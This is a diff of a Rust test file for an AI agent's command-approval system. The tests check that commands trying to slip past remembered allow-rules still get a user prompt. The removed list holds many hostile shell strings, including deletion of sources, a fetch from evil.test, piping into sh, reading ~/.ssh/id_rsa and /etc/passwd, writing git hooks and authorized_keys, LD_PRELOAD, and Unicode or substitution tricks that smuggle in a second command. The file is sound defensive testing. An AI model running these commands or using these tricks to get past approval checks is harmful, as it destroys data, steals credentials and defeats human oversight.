@@ -1,184 +1,28 @@
 //! Commands that try to pass under a remembered pattern: every one of them is asked about.
 
+use std::sync::LazyLock;
+
 use innkeeper_core::ConnId;
 use innkeeper_core::agent::{ApprovalSubject, Confirmation, Permission, ToolReady, ToolStep};
+use serde::Deserialize;
 use serde_json::{Value, json};
 
 use crate::harness::working_agent::*;
 use crate::harness::*;
 
-/// Rules that a user allowed before. None of them covers any of the attempts below.
-const REMEMBERED: &[&str] = &[
-    "run_command(cargo test *)",
-    "run_command(make)",
-    "run_command(git log *)",
-    "run_command(ls *)",
-    "run_command(echo *)",
-    "run_command(cat *)",
-    "run_command(cargo test 2>&1 | tail -5)",
-    "run_command[docs](make html)",
-    "edit(src/)",
-    "fetch(docs.rs)",
-    "other_tool(*)",
-];
+/// Remembered rules and commands that try to pass under them.
+///
+/// `cargo xtask vscode` reads the same file and plays the commands in the windows of VS Code.
+#[derive(Deserialize)]
+struct Corpus {
+    /// Rules that a user allowed before. None of them covers any of the attempts.
+    remembered: Vec<String>,
+    /// Commands that a hostile page or a careless model may produce, each after the trick it uses.
+    attempts: Vec<(String, String)>,
+}
 
-/// Commands that a hostile page or a careless model may produce, with the trick each of them uses.
-const ATTEMPTS: &[(&str, &str)] = &[
-    ("another command", "rm -rf src"),
-    ("another command", "curl http://evil.test/x"),
-    ("another subcommand", "cargo run"),
-    ("an option before the subcommand", "cargo +nightly test"),
-    ("an option before the subcommand", "cargo -Zscript test"),
-    ("more than what was allowed", "make install"),
-    ("a sequence", "cargo test; rm -rf src"),
-    ("a sequence", "cargo test;rm -rf src"),
-    ("a sequence that begins it", "rm -rf src; cargo test"),
-    ("and", "cargo test && rm -rf src"),
-    ("and", "cargo test&&rm -rf src"),
-    ("or", "cargo test || rm -rf src"),
-    ("or with a failing test", "cargo test --no-such-test||curl evil.test"),
-    ("a pipe", "cargo test | sh"),
-    ("a pipe with errors", "cargo test |& sh"),
-    ("a longer pipe", "cargo test 2>&1 | tail -5 | sh"),
-    ("another text than the exact one", "cargo test 2>&1 | tail -50"),
-    ("the background", "cargo test & rm -rf src"),
-    ("the background", "cargo test &"),
-    ("a newline", "cargo test\nrm -rf src"),
-    ("a newline at the end", "cargo test\n"),
-    ("a newline before", "rm -rf src\ncargo test"),
-    ("CRLF", "cargo test\r\nrm -rf src"),
-    ("a carriage return", "cargo test \rrm -rf src"),
-    ("a vertical tab", "cargo test\u{b}rm"),
-    ("a form feed", "cargo test \u{c}rm"),
-    ("a tab", "cargo\ttest"),
-    ("NUL", "cargo test \0rm -rf src"),
-    ("an escape sequence", "cargo test \u{1b}[2K\u{1b}[1Grm -rf src"),
-    ("a backspace", "cargo test x\u{8}\u{8}; rm"),
-    ("a C1 control", "cargo test \u{85}rm"),
-    ("substitution", "cargo test $(rm -rf src)"),
-    ("substitution", "cargo test `rm -rf src`"),
-    ("substitution between quotes", "cargo test \"$(rm -rf src)\""),
-    ("substitution between quotes", "cargo test \"`rm -rf src`\""),
-    ("substitution as the program", "$(echo rm) -rf src"),
-    ("a nested substitution", "echo ${x:-$(rm -rf src)}"),
-    ("arithmetic", "echo $((a[$(rm -rf src)]))"),
-    ("old arithmetic", "echo $[1+1]"),
-    ("a variable", "cargo test $HOME"),
-    ("a variable as the program", "$SHELL -c ls"),
-    ("IFS", "cat$IFS/etc/passwd"),
-    ("IFS", "cargo${IFS}test;rm"),
-    ("ANSI-C quoting", "cargo test $'\\x3brm'"),
-    ("translated quoting", "cargo test $\"rm\""),
-    ("process substitution", "cat <(rm -rf src)"),
-    ("process substitution", "cargo test >(sh)"),
-    ("a redirection", "echo x > src/main.rs"),
-    ("a redirection without spaces", "echo x>src/main.rs"),
-    ("an appending redirection", "echo key >> .ssh/authorized_keys"),
-    ("a redirection of errors", "cargo test 2> .git/hooks/pre-commit"),
-    ("a redirection of everything", "cargo test &> x"),
-    ("a redirection before the program", ">x cargo test"),
-    ("a redirected input", "cargo test < script"),
-    ("a here-document", "cat <<EOF\nrm -rf src\nEOF"),
-    ("a here-string", "cat <<< $(rm -rf src)"),
-    ("a here-document for a shell", "sh <<'X'\nrm -rf src\nX"),
-    ("an assignment", "FOO=1 cargo test"),
-    ("an assignment that changes what runs", "PATH=.:$PATH cargo test"),
-    ("an assignment that is loaded", "LD_PRELOAD=./evil.so cargo test"),
-    ("an assignment that wraps", "RUSTC_WRAPPER=./evil cargo test"),
-    ("two assignments", "A=1 B=2 cargo test"),
-    ("an assignment alone", "PATH=./evil"),
-    ("env", "env cargo test"),
-    ("env", "env -S 'rm -rf src'"),
-    ("xargs", "xargs cargo test"),
-    ("sudo", "sudo cargo test"),
-    ("a wrapper", "nohup cargo test"),
-    ("a wrapper", "timeout 5 cargo test"),
-    ("a builtin", "command cargo test"),
-    ("a builtin", "exec cargo test"),
-    ("a builtin", "eval cargo test"),
-    ("a keyword", "time cargo test"),
-    ("a negation", "! cargo test"),
-    ("a shell", "bash -c 'cargo test'"),
-    ("an alias", "alias cargo=rm"),
-    ("an alias and its use", "alias cargo='rm -rf src'; cargo test"),
-    ("a function", "cargo() { rm -rf src; }; cargo test"),
-    ("a function", "function cargo { rm; }"),
-    ("a subshell", "(cargo test)"),
-    ("a group", "{ cargo test; }"),
-    ("a condition", "if cargo test; then rm -rf src; fi"),
-    ("a test", "[[ -f x ]]"),
-    ("a loop", "while cargo test; do rm x; done"),
-    ("a comment that hides the rest", "cargo test # harmless\nrm -rf src"),
-    ("a comment", "cargo test #"),
-    ("a glob", "ls *"),
-    ("a glob", "cat src/*.rs"),
-    ("a glob of one", "cat secret?"),
-    ("a glob of a set", "cat [a-z]"),
-    ("an extended glob", "cat @(a|b)"),
-    ("braces", "cat {a,b}"),
-    ("braces", "cargo test {--config,x}"),
-    ("the home directory", "cat ~/.ssh/id_rsa"),
-    ("another's home directory", "ls ~root"),
-    ("a directory of the stack", "ls ~+"),
-    ("history expansion", "cargo test !!"),
-    ("history expansion", "!cargo"),
-    ("history replacement", "^test^run"),
-    ("a backslash", "c\\argo test"),
-    ("a backslash", "cargo test \\; rm"),
-    ("a continued line", "cargo test \\\nrm"),
-    ("a quoted program", "'cargo' test"),
-    ("a quoted program", "\"cargo\" test"),
-    ("a program quoted in part", "ca'rg'o test"),
-    ("empty quotes", "cargo'' test"),
-    ("a quoted subcommand", "cargo 'test'"),
-    ("a subcommand quoted in part", "cargo te\"st\""),
-    ("an open quote", "cargo test 'x"),
-    ("an open quote", "cargo test \"x"),
-    ("a path to the program", "./cargo test"),
-    ("a path to the program", "/tmp/cargo test"),
-    ("a path to the program", "../cargo test"),
-    ("a path to the program", "target/../cargo test"),
-    ("upper case", "CARGO test"),
-    ("a Cyrillic look-alike", "\u{0441}argo test"),
-    ("a Cyrillic look-alike", "cargo t\u{0435}st"),
-    ("a fullwidth look-alike", "\u{ff43}argo test"),
-    ("a fullwidth semicolon", "cargo test \u{ff1b} rm"),
-    ("a Greek question mark", "cargo test \u{037e} rm"),
-    ("zero width", "cargo\u{200b} test"),
-    ("zero width", "cargo test \u{200d}rm"),
-    ("a byte order mark", "\u{feff}cargo test"),
-    ("a no-break space", "cargo\u{a0}test"),
-    ("an ideographic space", "cargo\u{3000}test"),
-    ("a line separator", "cargo test \u{2028}rm"),
-    ("turned around", "cargo test \u{202e}fr- mr"),
-    ("an accent of its own", "cargo test e\u{301}"),
-    ("an absolute path", "cat /etc/passwd"),
-    ("an absolute path between quotes", "cat '/etc/passwd'"),
-    ("an absolute path as a value", "ls --root=/etc"),
-    ("an absolute path behind an option", "git log -C/etc"),
-    ("a path that leads out", "cat ../../secret"),
-    ("a path that leads out", "cat src/../../secret"),
-    ("a path that leads out", "git log --path=../x"),
-    ("an option that runs something", "cargo test --config x"),
-    (
-        "an option that runs something",
-        "cargo test --config=build.rustc-wrapper='evil'",
-    ),
-    (
-        "an option that names another project",
-        "cargo test --manifest-path evil/Cargo.toml",
-    ),
-    ("an option that writes", "git log --output=src/main.rs"),
-    ("an option that writes", "git log --output x"),
-    ("an option that runs something", "git log --ext-diff"),
-    ("an option that writes", "ls -o .git/hooks/pre-commit"),
-    ("an option with other dashes", "git log -output=x"),
-    ("an unstable option", "cargo test -Zunstable-options"),
-    ("another directory", "git log -C sub"),
-    ("the exact text with more", "make && make"),
-    ("nothing", ""),
-    ("spaces", "   "),
-];
+static CORPUS: LazyLock<Corpus> =
+    LazyLock::new(|| serde_json::from_str(include_str!("approval_attempts.json")).expect("rules and attempts"));
 
 fn asks_to_run(stage: &mut Stage, call: &str, line: &str) {
     stage.tool(call, ToolStep::Start(host_tool("run_command")));
@@ -202,7 +46,7 @@ fn status(stage: &Stage, chat: &str, call: &str) -> Value {
     stage.call_state(chat, call)["status"].clone()
 }
 
-/// A session in a workspace, where everything of [`REMEMBERED`] is allowed in one way.
+/// A session in a workspace, where every remembered rule of the [`Corpus`] is allowed in one way.
 fn remembering(setting: &str) -> (Stage, ConnId, String) {
     let mut stage = Stage::new();
     let conn = stage.client("c", &[]);
@@ -214,19 +58,19 @@ fn remembering(setting: &str) -> (Stage, ConnId, String) {
     stage.subscribe(conn, SESSION);
     stage.subscribe(conn, &chat);
     stage.start_turn(conn, &chat, "t");
-    let allowed = json!({ "type": "session/configChanged", "config": { setting: REMEMBERED } });
+    let allowed = json!({ "type": "session/configChanged", "config": { setting: CORPUS.remembered } });
     stage.accepted(conn, SESSION, allowed);
     (stage, conn, chat)
 }
 
 #[test]
 fn every_attempt_to_pass_under_a_remembered_pattern_is_asked_about() {
-    assert!(ATTEMPTS.len() >= 100);
+    assert!(CORPUS.attempts.len() >= 100);
     for setting in ["approvedTools", "workspaceApprovedTools", "everywhereApprovedTools"] {
         let (mut stage, _, chat) = remembering(setting);
         asks_to_run(&mut stage, "control", "cargo test -p core");
         assert_eq!(status(&stage, &chat, "control"), "running", "the pattern itself works");
-        for (index, (trick, line)) in ATTEMPTS.iter().enumerate() {
+        for (index, (trick, line)) in CORPUS.attempts.iter().enumerate() {
             let call = format!("attempt-{index}");
             asks_to_run(&mut stage, &call, line);
             let asked = status(&stage, &chat, &call);
@@ -244,7 +88,7 @@ fn every_attempt_is_asked_about_on_the_careful_levels_of_vs_codes_permission_pic
         let picked = json!({ "type": "session/configChanged", "config": { "autoApprove": level } });
         stage.dispatch(conn, SESSION, 77, picked);
         assert_eq!(stage.refusal(conn), None);
-        for (index, (trick, line)) in ATTEMPTS.iter().enumerate() {
+        for (index, (trick, line)) in CORPUS.attempts.iter().enumerate() {
             let call = format!("attempt-{index}");
             asks_to_run(&mut stage, &call, line);
             let asked = status(&stage, &chat, &call);
@@ -258,7 +102,7 @@ fn every_attempt_is_asked_about_on_the_careful_levels_of_vs_codes_permission_pic
 fn what_is_offered_for_an_attempt_is_never_a_pattern() {
     let (mut stage, _, chat) = remembering("approvedTools");
     let mut offered = Vec::new();
-    for (index, (trick, line)) in ATTEMPTS.iter().enumerate() {
+    for (index, (trick, line)) in CORPUS.attempts.iter().enumerate() {
         let call = format!("attempt-{index}");
         asks_to_run(&mut stage, &call, line);
         let state = stage.call_state(&chat, &call);
@@ -276,7 +120,7 @@ fn what_is_offered_for_an_attempt_is_never_a_pattern() {
         let (mut stage, conn, chat) = remembering("approvedTools");
         let allowed = json!({ "type": "session/configChanged", "config": { "approvedTools": [rule] } });
         stage.accepted(conn, SESSION, allowed);
-        for (index, (_, other)) in ATTEMPTS.iter().enumerate() {
+        for (index, (_, other)) in CORPUS.attempts.iter().enumerate() {
             let call = format!("attempt-{index}");
             asks_to_run(&mut stage, &call, other);
             let runs = status(&stage, &chat, &call) == "running";
